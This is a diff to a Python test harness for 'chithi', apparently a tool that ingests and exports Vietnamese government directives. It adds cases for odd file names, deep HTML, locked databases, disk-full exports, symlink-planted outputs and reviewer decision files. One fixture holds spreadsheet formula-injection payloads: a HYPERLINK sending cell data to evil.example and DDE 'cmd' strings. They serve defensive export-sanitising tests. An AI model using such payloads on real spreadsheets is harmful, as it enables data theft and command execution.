@@ -399,6 +399,413 @@ def _all(*checks):
     return check
 
 
+# -- issue 21: reviewers' decisions ---------------------------------------------------------------------------
+
+DOC1 = "bac282dc27c08b5d"  # SEED's doc id
+
+
+def decisions_file(path: Path, decisions: list[dict], doc_id: str = DOC1, reviewer: str = "Lan") -> Path:
+    path.write_text(json.dumps({"chithi_review": 1, "doc_id": doc_id, "reviewer": reviewer, "decisions": decisions},
+                               ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def _case_decisions(*files: list[dict]):
+    """A store of the seeds, and one decisions file per list (a.json, b.json, …), applied in that order."""
+    def build(tmp, small):
+        ingest_db(tmp)
+        names = []
+        for i, decisions in enumerate(files):
+            names.append(decisions_file(tmp / f"{'abc'[i]}.json", decisions).name)
+        return ["review", "--apply", *names, "--db", "d.db"]
+    return build
+
+
+def _reviews(db: str, expect: dict[str, tuple] | None, history: int | None = None):
+    """The decisions in force on DOC1 are ``expect`` ({item: (decision, value, note)}; None: none stored at
+    all), and the history holds ``history`` rows."""
+    def check(tmp: Path, proc) -> None:
+        con = sqlite3.connect(tmp / db)
+        rows = {r[0]: r[1:] for r in con.execute("SELECT item, decision, value, note FROM reviews WHERE doc_id = ?",
+                                                  (DOC1,))}
+        hist = con.execute("SELECT count(*) FROM review_log").fetchone()[0]
+        status = con.execute("SELECT review_status FROM documents WHERE doc_id = ?", (DOC1,)).fetchone()[0]
+        con.close()
+        assert rows == (expect or {}), f"stored decisions {rows}, expected {expect}"
+        if expect is None:
+            assert hist == 0 and status == "unreviewed", f"{hist} history rows, status {status}"
+        if history is not None:
+            assert hist == history, f"{hist} history rows, expected {history}"
+    return check
+
+
+def _big_note_file(tmp, small):
+    ingest_db(tmp)
+    note = "ghi chu " * ((9 if small else 100) * 2**20 // 8)
+    decisions_file(tmp / "a.json", [{"item": "t1", "decision": "accept", "note": note}])
+    return ["review", "--apply", "a.json", "--db", "d.db"]
+
+
+def _case_undecodable_names(tmp, small):
+    """A folder whose file names are not UTF-8 (Latin-1 and cp1258 names copied from old disks): a good one and a
+    damaged .docx; ``os.fsencode`` keeps the bytes."""
+    (tmp / "in").mkdir()
+    Path(os.fsdecode(os.fsencode(str(tmp / "in")) + b"/ch\xe9 th\xfe.txt")).write_bytes(SEED.read_bytes())
+    Path(os.fsdecode(os.fsencode(str(tmp / "in")) + b"/h\xf4ng\x1b.docx")).write_bytes(b"PK\x03\x04 not a zip")
+    return ["ingest", "in", "--db", "n.db", "--quiet"]
+
+
+def _stored_paths(db: str, *ends: str):
+    def check(tmp: Path, proc) -> None:
+        con = sqlite3.connect(tmp / db)
+        paths = [r[0] for r in con.execute("SELECT path FROM documents UNION ALL SELECT path FROM failures")]
+        con.close()
+        for e in ends:
+            assert any(p.endswith(e) for p in paths), f"no stored path ending {e!r} in {paths}"
+    return check
+
+
+def deep_html(path: Path, levels: int, tag: str = "font") -> Path:
+    """The seed as an HTML page whose paragraphs sit under ``levels`` unclosed ``<tag>`` elements (saved portal
+    pages nest <font> so)."""
+    paras = "".join(f"<p>{ln}</p>" for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip())
+    path.write_text(f"<html><body>{f'<{tag}>' * levels}{paras}</body></html>", encoding="utf-8")
+    return path
+
+
+def _record_has(number: str, targets: int, absent_warning: str):
+    def check(tmp: Path, proc) -> None:
+        rec = json.loads(proc.stdout)
+        got = ((rec["metadata"].get("number") or {}).get("value"), len(rec["targets"]))
+        assert got == (number, targets), f"number and targets {got}, expected {(number, targets)}"
+        assert absent_warning not in [w["code"] for w in rec["warnings"]], rec["warnings"]
+    return check
+
+
+_LISTENERS: dict[str, object] = {}   # sockets and servers the Dask cases leave listening on 127.0.0.1
+
+
+def _listener(kind: str) -> int:
+    """A port on 127.0.0.1 where something that is not a Dask scheduler listens: 'silent' accepts connections
+    and never answers, 'http' is an HTTP server."""
+    import http.server
+    import socket
+    import threading
+
+    old = _LISTENERS.pop(kind, None)
+    if old is not None:
+        (old.shutdown() or old.server_close()) if kind == "http" else old.close()
+    if kind == "http":
+        class Quiet(http.server.BaseHTTPRequestHandler):
+            def log_message(self, *a):
+                pass
+
+        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+        _LISTENERS[kind] = srv
+        return srv.server_address[1]
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    sock.listen(16)
+    _LISTENERS[kind] = sock
+    return sock.getsockname()[1]
+
+
+def _case_scheduler(kind: str, scheme: str = "tcp"):
+    def build(tmp, small):
+        (tmp / "in").mkdir()
+        (tmp / "in" / "good.txt").write_bytes(SEED.read_bytes())
+        port = _listener(kind) if kind else 9
+        _LISTENERS["address"] = address = f"{scheme}://127.0.0.1:{port}"
+        return ["ingest", "in", "--db", "k.db", "--quiet", "--scheduler", address, "--connect-timeout", "3"]
+    return build
+
+
+def _no_scheduler(what: str, hint: str = "is `dask scheduler` running there and its port open?"):
+    return lambda small: f"chithi: error: {what.format(_LISTENERS['address'])} ({hint})"
+
+
+def _case_many_workers(*flags: str):
+    def build(tmp, small):
+        (tmp / "in").mkdir()
+        for i in range(10):  # ten files, each its own document
+            (tmp / "in" / f"d{i}.txt").write_text(SEED.read_text(encoding="utf-8") + f"\n{i}\n", encoding="utf-8")
+        return ["ingest", "in", "--db", "w.db", "--quiet", *flags]
+    return build
+
+
+def _line_starts(prefix: str):
+    def check(tmp: Path, proc) -> None:
+        assert any(ln.startswith(prefix) for ln in proc.stderr.splitlines()), f"no line {prefix!r}… in stderr"
+    return check
+
+
+def _case_locked(release_after: float | None):
+    """A database another program is writing to (a write transaction held open here), released after
+    ``release_after`` seconds (None: never, during the run)."""
+    def build(tmp, small):
+        import threading
+
+        ingest_db(tmp, "d.db", SEED)
+        (tmp / "in").mkdir()
+        (tmp / "in" / "two.txt").write_bytes(SEED2.read_bytes())
+        con = sqlite3.connect(tmp / "d.db", isolation_level=None, check_same_thread=False)
+        con.execute("BEGIN IMMEDIATE")
+        _LISTENERS["lock"] = con
+        if release_after is not None:
+            threading.Timer(release_after, lambda: con.execute("ROLLBACK")).start()
+        return ["ingest", "in", "--db", "d.db", "--quiet", "--busy-timeout", "2" if release_after is None else "30"]
+    return build
+
+
+_WAITING = "chithi: waiting for d.db: another program is writing to it (up to {} s, --busy-timeout)"
+
+
+FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSerif.ttf"
+SCAN_LEFT = ["ỦY BAN NHÂN DÂN", "TỈNH KHÁNH HÒA", "Số: 17/CT-UBND"]
+SCAN_RIGHT = ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
+              "Khánh Hòa, ngày 19 tháng 3 năm 2024"]
+
+
+def scan_header(paper: int = 235, ink: int = 25):
+    """The header block of a directive as an 8-bit grayscale scan (number 17/CT-UBND, 19 March 2024)."""
+    from PIL import Image, ImageDraw, ImageFont
+
+    im = Image.new("L", (2480, 900), paper)
+    d = ImageDraw.Draw(im)
+    f = ImageFont.truetype(FONT, 44)
+    for x, lines in ((650, SCAN_LEFT), (1700, SCAN_RIGHT)):
+        for i, s in enumerate(lines):
+            d.text((x - d.textlength(s, font=f) / 2, 150 + 70 * i), s, font=f, fill=ink)
+    d.text((1240 - d.textlength("CHỈ THỊ", font=f) / 2, 500), "CHỈ THỊ", font=f, fill=ink)
+    d.text((230, 650), "Yêu cầu các sở, ban, ngành hoàn thành việc rà soát trước ngày 30 tháng 6 năm 2024.",
+           font=f, fill=ink)
+    return im
+
+
+def scan_in_mode(path: Path, mode: str) -> Path:
+    """:func:`scan_header` saved in an image ``mode``: 'I;16' (16-bit grayscale PNG, paper at 60,395 of 65,535),
+    'RGBA' (black text on a transparent background), 'CMYK' (TIFF), '1' (1-bit TIFF), 'P' (palette PNG)."""
+    import numpy as np
+    from PIL import Image
+
+    im = scan_header()
+    if mode == "I;16":
+        Image.fromarray(np.asarray(im).astype(np.uint16) * 257).save(path)
+    elif mode == "RGBA":
+        alpha = Image.eval(im, lambda v: 255 - v)  # ink opaque, paper transparent (colour black)
+        Image.merge("RGBA", (*[Image.new("L", im.size, 0)] * 3, alpha)).save(path)
+    else:
+        im.convert(mode).save(path)
+    return path
+
+
+def _case_scan_mode(mode: str, suffix: str):
+    def build(tmp, small):
+        return ["extract", scan_in_mode(tmp / f"scan{suffix}", mode).name, "--workers", "1"]
+    return build
+
+
+def _number_and_date(number: str, date: str):
+    def check(tmp: Path, proc) -> None:
+        md = json.loads(proc.stdout)["metadata"]
+        got = ((md.get("number") or {}).get("value"), (md.get("issued_date") or {}).get("value"))
+        assert got == (number, date), f"number and date {got}, expected {(number, date)}"
+    return check
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Chỉ thị 01")'
+HOSTILE_VALUES = {"subject": FORMULA, "issuer": "+cmd|' /C calc'!A0", "signer": "@SUM(1+1)*cmd|' /C calc'!A0",
+                  "metric": "tỷ lệ\fhộ\x1b[31m nghèo\x07 -2+3", "note": "\tghi chú\x85\u202e"}
+
+
+def hostile_store(tmp: Path) -> Path:
+    """A store of the seeds whose first record holds values a spreadsheet would run (=, +, @ …) and control
+    characters (a page break, ESC, BEL, NEL, a bidi override) — as a hostile document or reviewer could put there."""
+    db = ingest_db(tmp)
+    con = sqlite3.connect(db)
+    rec = json.loads(con.execute("SELECT record FROM documents WHERE doc_id = ?", (DOC1,)).fetchone()[0])
+    rec["metadata"]["subject"]["value"] = HOSTILE_VALUES["subject"]
+    rec["metadata"]["issuer"]["value"] = HOSTILE_VALUES["issuer"]
+    rec["metadata"]["signer"]["name"] = HOSTILE_VALUES["signer"]
+    rec["targets"][0]["metric"] = HOSTILE_VALUES["metric"]
+    rec["review"] = {"status": "in_review", "decided": 1, "total": 20, "decisions": [
+        {"item": rec["targets"][0]["id"], "decision": "accept", "value": None, "original": None,
+         "note": HOSTILE_VALUES["note"], "reviewer": "=1+1", "decided_at": "2026-11-30T08:00:00+00:00"}]}
+    with con:
+        con.execute("UPDATE documents SET record = ?, subject = ? WHERE doc_id = ?",
+                    (json.dumps(rec, ensure_ascii=False), HOSTILE_VALUES["subject"], DOC1))
+    con.close()
+    return db
+
+
+def _case_export(fmt: str):
+    def build(tmp, small):
+        hostile_store(tmp)
+        return ["export", "--format", fmt, "--db", "d.db", "--out", f"e.{fmt}"]
+    return build
+
+
+_CONTROL_RE = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
+
+
+def _csv_safe(tmp: Path, proc) -> None:
+    import csv
+    import io
+    import re
+
+    text = (tmp / "e.csv").read_text(encoding="utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + FORMULA in cells, "the formula subject is not written as quoted text"
+    assert "'+cmd|' /C calc'!A0" in cells and "'=1+1" in cells
+    assert any(c.startswith("tỷ lệ\nhộ[31m nghèo -2+3") for c in cells), "the page break and ESC not cleaned"
+    assert "'\tghi chú" in cells
+    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not live, f"cells a spreadsheet evaluates: {live[:3]}"
+    assert not re.search(_CONTROL_RE, text), "control characters in the CSV"
+
+
+def _xlsx_safe(tmp: Path, proc) -> None:
+    import re
+    import zipfile as zf
+
+    from openpyxl import load_workbook
+
+    assert (tmp / "e.xlsx").is_file(), "no workbook written"
+    wb = load_workbook(tmp / "e.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c for c in cells if c.data_type == "f"], "formula cells in the workbook"
+    values = {c.value for c in cells}
+    assert {FORMULA, HOSTILE_VALUES["issuer"], "\tghi chú"} <= values, "values missing"
+    unmarked = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))
+                and not c.quotePrefix]
+    assert not unmarked, f"text cells a spreadsheet would evaluate once edited: {unmarked[:3]}"
+    with zf.ZipFile(tmp / "e.xlsx") as z:
+        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and not re.search(_CONTROL_RE, xml), "a formula or control character in the sheets"
+
+
+_PREVIOUS = "doc_id,previous export\n" * 50
+_FULL_LIMITS: dict = {}   # the child's limits of the disk-full case: a file-size limit when no tmpfs can be mounted
+
+
+def _case_export_disk_full(tmp, small):
+    """The export goes to a nearly full 256 KiB tmpfs (root: mounted here), else to a child whose files cannot grow
+    past 33 KiB (RLIMIT_FSIZE: EFBIG), over a previous, good export."""
+    hostile_store(tmp)
+    full = tmp / "full"
+    full.mkdir()
+    _FULL_LIMITS.clear()
+    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(full)], capture_output=True
+                      ).returncode == 0:
+        _LISTENERS["mounted"] = full
+        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
+        with open(full / "filler", "wb") as f:  # leave ~12 KiB
+            try:
+                f.write(b"\0" * (256 - 12) * 1024)
+            except OSError:
+                pass
+        _LISTENERS["errno"] = "No space left on device"
+    else:
+        (full / "e.csv").write_text(_PREVIOUS, encoding="utf-8")
+        _FULL_LIMITS["fsize"] = 33 * 1024  # over SQLite's 32 KiB -shm file, under the 37 KB export
+        _LISTENERS["errno"] = "File too large"
+    return ["export", "--format", "csv", "--db", "d.db", "--out", "full/e.csv"]
+
+
+def _previous_kept(tmp: Path, proc) -> None:
+    try:
+        assert (tmp / "full" / "e.csv").read_text(encoding="utf-8") == _PREVIOUS, "the previous export was changed"
+        left = sorted(p.name for p in (tmp / "full").iterdir() if p.name not in ("e.csv", "filler"))
+        assert not left, f"left behind: {left}"
+    finally:
+        unmount()
+
+
+def unmount() -> None:
+    """Unmount the tmpfs of the disk-full case, if it is mounted (after its check, or when the run failed)."""
+    full = _LISTENERS.pop("mounted", None)
+    if full is not None:
+        subprocess.run(["umount", str(full)], capture_output=True)
+
+
+def _planted(tmp: Path, *links: str) -> None:
+    """A file the user cares about, and links to it where chithi writes: at the target itself, or at the
+    predictable temporary name the old writers used (out.xlsx.tmp, r.html.tmp)."""
+    (tmp / "victim.txt").write_text("keep me\n", encoding="utf-8")
+    for name in links:
+        (tmp / name).symlink_to(tmp / "victim.txt")
+
+
+def _case_planted(command: list[str], *links: str):
+    def build(tmp, small):
+        hostile_store(tmp)
+        _planted(tmp, *links)
+        return command
+    return build
+
+
+def _links_harmless(*outputs: str):
+    def check(tmp: Path, proc) -> None:
+        assert (tmp / "victim.txt").read_text(encoding="utf-8") == "keep me\n", "a link's target was overwritten"
+        for name in outputs:
+            assert (tmp / name).is_file() and not (tmp / name).is_symlink(), f"{name} is not the new file"
+        left = [p.name for p in tmp.iterdir() if p.name.startswith(".") and p.name.endswith(".tmp")]
+        assert not left, f"temporary files left: {left}"
+    return check
+
+
+def seed_docx(path: Path) -> Path:
+    """The seed directive as a .docx, one paragraph a line."""
+    from xml.sax.saxutils import escape
+
+    lines = [ln.lstrip("# ") for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip()]
+    return docx(path, [f"<w:p><w:r><w:t>{escape(ln)}</w:t></w:r></w:p>".encode("utf-8") for ln in lines])
+
+
+def soffice_convert(src: Path, to: str, dest: Path) -> Path:
+    """``src`` converted by LibreOffice to format ``to`` (doc, pdf), saved as ``dest`` (whatever its name says)."""
+    from pipeline.tools.soffice import convert
+
+    dest.write_bytes(convert(src.read_bytes(), src.name, to=to))
+    return dest
+
+
+def _case_misnamed(kind: str):
+    """The seed in one format under a name that says another."""
+    def build(tmp, small):
+        src = seed_docx(tmp / "seed.docx")
+        if kind == "doc_named_docx":
+            out = soffice_convert(src, "doc:MS Word 97", tmp / "chi-thi.docx")
+        elif kind == "pdf_named_txt":
+            out = soffice_convert(src, "pdf", tmp / "chi-thi.txt")
+        elif kind == "docx_named_doc":
+            out = src.rename(tmp / "chi-thi.doc")
+        elif kind == "html_named_txt":
+            paras = "".join(f"<p>{ln}</p>" for ln in SEED.read_text(encoding="utf-8").splitlines() if ln.strip())
+            out = tmp / "chi-thi.txt"
+            out.write_text(f"<!DOCTYPE html><html><body>{paras}</body></html>", encoding="utf-8")
+        else:  # pdf without a suffix
+            out = soffice_convert(src, "pdf", tmp / "chi-thi")
+        return ["extract", out.name]
+    return build
+
+
+def _read_as(media_type: str, named: str, kind: str, suffix: str):
+    def check(tmp: Path, proc) -> None:
+        rec = json.loads(proc.stdout)
+        got = ((rec["metadata"].get("number") or {}).get("value"), rec["source"]["media_type"])
+        assert got == ("01/CT-UBND", media_type), f"number and media type {got}"
+        notes = [w["message"] for w in rec["warnings"] if w["code"] == "misnamed_file"]
+        assert notes == [f"the file is {kind}, not what its name says ('{named}'): read as {kind} (rename it to "
+                         f"{suffix})"], rec["warnings"]
+    return check
+
+
+_DEC = "chithi: error: a.json: decision 1 "
+_T0, _T1 = "2026-11-30T08:00:00Z", "2026-11-30T09:00:00+07:00"  # _T1 is 02:00 UTC: the earlier one
+
+
 _DAMAGED = ("chithi: error: d.db: database error: database disk image is malformed (the file is damaged: check it "
             "with `sqlite3 d.db 'PRAGMA integrity_check'`, or restore a backup)")
 _MISSING = "chithi: error: {0}: the folder {1} does not exist (create it, or give {2} a file in an existing folder)"
@@ -456,6 +863,101 @@ CASES: list[Case] = [
     Case("doc_timeout_in_batch", _case_timeout, 1, None, check=_all(_stored("t.db", 1), _lines(
         "chithi: failed: in/scan.pdf: took longer than the 5 s limit on one document (raise the limit with "
         "--doc-timeout)"))),
+    Case("undecodable_file_names", _case_undecodable_names, 1,
+         "chithi: failed: in/h\\xf4ng\\x1b.docx: not a valid .docx file (BadZipFile) (re-save it from "
+         "Word/LibreOffice as .docx)", check=_all(_stored("n.db", 1),
+                                                  _stored_paths("n.db", "in/ch\\xe9 th\\xfe.txt", "in/h\\xf4ng\x1b.docx"))),
+    Case("debug_keeps_exit_code", lambda tmp, small: ["--debug", "extract", "missing.txt"], 3,
+         "chithi: error: missing.txt: no such file (check the path)",
+         check=_lines("pipeline.core.errors.InputMissingError: missing.txt: no such file")),
+    Case("html_3000_unclosed_font_tags", lambda tmp, small: ["extract", deep_html(tmp / "f.html", 3000).name], 0,
+         None, check=_record_has("01/CT-UBND", 4, "html_too_deep")),
+    Case("html_5000_nested_divs", lambda tmp, small: ["extract", deep_html(tmp / "d.html", 5000, "div").name], 5,
+         "chithi: error: d.html: the HTML page nests elements deeper than 2,047 levels, and all its text (10,437 "
+         "letters and digits) is below that depth (open and re-save the page in a browser)"),
+    Case("scheduler_silent_listener", _case_scheduler("silent"), 9,
+         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
+    Case("scheduler_http_server", _case_scheduler("http"), 9,
+         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
+    Case("scheduler_ws_silent_listener", _case_scheduler("silent", "ws"), 9,
+         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
+    *[Case(f"scheduler_{scheme}", _case_scheduler("", scheme), 9, _no_scheduler(
+        f"cannot reach the Dask scheduler at {{}}: chithi is not set up for {scheme}:// schedulers",
+        "give the scheduler's tcp:// address, through an SSH tunnel if it must be encrypted"), limits={"seconds": 15})
+      for scheme in ("tls", "wss", "ucx", "inproc")],
+    Case("workers_1000_for_ten_files", _case_many_workers("--workers", "1000"), 0, None, check=_all(
+        _stored("w.db", 10), _lines(f"chithi: note: --workers 1000 capped at {os.cpu_count()}: this machine has "
+                                    f"{os.cpu_count()} cores"))),
+    Case("workers_over_memory", _case_many_workers("--workers", "2", "--max-memory-mb", "100000000"), 0, None,
+         check=_all(_stored("w.db", 10), _line_starts(
+             "chithi: note: --workers 2 capped at 1: 1 worker of --max-memory-mb 100000000 fit in the memory "
+             "available, "))),
+    Case("db_locked_by_another_writer", _case_locked(None), 8,
+         "chithi: error: d.db: another program has been writing to the database for 2 s: gave up (wait for the "
+         "other writer, e.g. another chithi ingest, to finish, or raise --busy-timeout)",
+         check=_all(_lines(_WAITING.format(2)))),
+    Case("db_locked_then_released", _case_locked(8.0), 0, None,
+         check=_all(_lines(_WAITING.format(30)), _stored("d.db", 2))),
+    *[Case(f"scan_mode_{name}", _case_scan_mode(mode, suffix), 0, None,
+           check=_number_and_date("17/CT-UBND", "2024-03-19"))
+      for name, mode, suffix in (("16bit_gray", "I;16", ".png"), ("alpha", "RGBA", ".png"), ("cmyk", "CMYK", ".tif"),
+                                 ("1bit", "1", ".tif"), ("palette", "P", ".png"))],
+    # issue 21: outputs that cannot be turned against their users
+    Case("export_csv_formulas_and_controls", _case_export("csv"), 0, None, check=_csv_safe),
+    Case("export_xlsx_formulas_and_controls", _case_export("xlsx"), 0, None, check=_xlsx_safe),
+    Case("export_disk_full_keeps_previous", _case_export_disk_full, 3, lambda small: (
+        f"chithi: error: full/e.csv: cannot write: {_LISTENERS['errno']} (free some disk space, or write "
+        "somewhere else; the previous e.csv, if any, is kept as it was)"), check=_previous_kept, limits=_FULL_LIMITS),
+    Case("review_page_over_planted_link", _case_planted(["review", DOC1, "--db", "d.db", "--out", "r.html"],
+                                                        "r.html.tmp"), 0, None, check=_links_harmless("r.html")),
+    Case("xlsx_export_over_planted_links", _case_planted(["export", "--format", "xlsx", "--db", "d.db", "--out",
+                                                          "e.xlsx"], "e.xlsx.tmp", "e.xlsx"), 0, None,
+         check=_links_harmless("e.xlsx")),
+    Case("ics_and_timeline_over_links", _case_planted(["deadlines", "--db", "d.db", "--ics", "d.ics", "--html",
+                                                       "t.html"], "d.ics", "t.html"), 0, None,
+         check=_links_harmless("d.ics", "t.html")),
+    Case("doc_named_docx", _case_misnamed("doc_named_docx"), 0, None,
+         check=_read_as("application/msword", ".docx", "a .doc document", ".doc"), limits={"seconds": 120}),
+    Case("pdf_named_txt", _case_misnamed("pdf_named_txt"), 0, None,
+         check=_read_as("application/pdf", ".txt", "a PDF", ".pdf"), limits={"seconds": 120}),
+    Case("docx_named_doc", _case_misnamed("docx_named_doc"), 0, None, check=_read_as(
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".doc", "a .docx document",
+        ".docx")),
+    Case("html_named_txt", _case_misnamed("html_named_txt"), 0, None,
+         check=_read_as("text/html", ".txt", "an HTML page", ".html")),
+    Case("pdf_without_suffix", _case_misnamed("pdf_no_suffix"), 0, None,
+         check=_read_as("application/pdf", "(none)", "a PDF", ".pdf"), limits={"seconds": 120}),
+    # issue 21: reviewers' decisions are checked, all of them, before any is stored
+    Case("decision_impossible_date", _case_decisions([
+        {"item": "t1", "decision": "accept"},
+        {"item": "meta-issued_date", "decision": "correct", "value": "31/02/2025"}]), 2,
+         "chithi: error: a.json: decision 2 (meta-issued_date): '31/02/2025' is not a day between 1900 and 2100 "
+         "(write the issue date as DD/MM/YYYY)", check=_reviews("d.db", None)),
+    Case("decision_deadline_9999", _case_decisions([{"item": "d1", "decision": "correct", "value": "9999"}]), 2,
+         _DEC + "(d1): '9999' is not a date between 1900 and 2100 (write the deadline as DD/MM/YYYY, MM/YYYY or "
+         "YYYY)", check=_reviews("d.db", None)),
+    Case("decision_400_digit_target", _case_decisions([{"item": "t1", "decision": "correct",
+                                                         "value": "9" * 400 + " %"}]), 2,
+         _DEC + "(t1): the number '" + "9" * 40 + "' is not finite or over 1e+15 (write the target's number as "
+         "digits, e.g. 96% or 2.900 hộ)", check=_reviews("d.db", None)),
+    Case("decision_item_not_in_record", _case_decisions(
+        [{"item": "t1", "decision": "accept"}],
+        [{"item": "t1", "decision": "accept"}] + [{"item": f"t{i}", "decision": "accept"} for i in range(5, 2000)]),
+         2, "chithi: error: b.json: decision 2 (t5): the stored record of bac282dc27c08b5d has no item 't5' "
+         "(download the decisions from the document's current review page)", check=_reviews("d.db", None)),
+    Case("decision_note_too_long", _case_decisions([{"item": "t1", "decision": "accept", "note": "x" * 5000}]), 2,
+         _DEC + "(t1): the note has 5,000 characters, over the 4,000 character limit (shorten the note)",
+         check=_reviews("d.db", None)),
+    Case("decision_file_too_big", _big_note_file, 5, lambda small: (
+        f"chithi: error: a.json: the decisions file is {9 if small else 100} MiB, over the 8 MiB limit (give the "
+        "JSON the review page downloads)"), check=_reviews("d.db", None)),
+    Case("decision_controls_removed", _case_decisions([
+        {"item": "t1", "decision": "correct", "value": "Hoa\u0300\x07n tha\u0300nh 100%", "note": "\u202eđúng\x1b[2J"}]),
+         0, None, check=_reviews("d.db", {"t1": ("correct", "Hoàn thành 100%", "đúng[2J")})),
+    Case("decision_latest_wins", _case_decisions(
+        [{"item": "t1", "decision": "reject", "decided_at": _T0}],      # the newer file first
+        [{"item": "t1", "decision": "accept", "decided_at": _T1}]), 0,  # then an older one: it must not undo it
+         None, check=_reviews("d.db", {"t1": ("reject", None, None)}, history=2)),
 ]
 
 
@@ -478,11 +980,17 @@ def run_case(case: Case, tmp: Path, small: bool) -> dict:
     env.pop("CHITHI_LIMITS", None)
     cmd = [sys.executable, "-c", _RUNNER, *args]
     t0 = time.monotonic()
-    proc = subprocess.run(cmd, cwd=tmp, capture_output=True, text=True, env=env,
-                          timeout=case.limits.get("seconds", TIME_LIMIT) + 30,
-                          preexec_fn=_child_limits(case.limits.get("address_space", MEMORY_LIMIT),
-                                                   case.limits.get("fsize")))
+    try:
+        proc = subprocess.run(cmd, cwd=tmp, capture_output=True, text=True, env=env,
+                              timeout=case.limits.get("seconds", TIME_LIMIT) + 30,
+                              preexec_fn=_child_limits(case.limits.get("address_space", MEMORY_LIMIT),
+                                                       case.limits.get("fsize")))
+    except BaseException:
+        unmount()
+        raise
     seconds = time.monotonic() - t0
+    if case.check is None:
+        unmount()
     peak = 0
     for ln in proc.stderr.splitlines():
         if ln.startswith("@peak "):
@@ -525,7 +1033,9 @@ def check_case(case: Case, result: dict, tmp: Path, small: bool) -> list[str]:
         try:
             case.check(tmp, result["proc"])
         except AssertionError as e:
-            problems.append(str(e))
+            problems.append(str(e) or "check failed")
+        except Exception as e:  # noqa: BLE001 - e.g. no JSON on stdout: the case failed, the others still run
+            problems.append(f"check failed: {type(e).__name__}: {' '.join(str(e).split())[:150]}")
     return problems
 
 
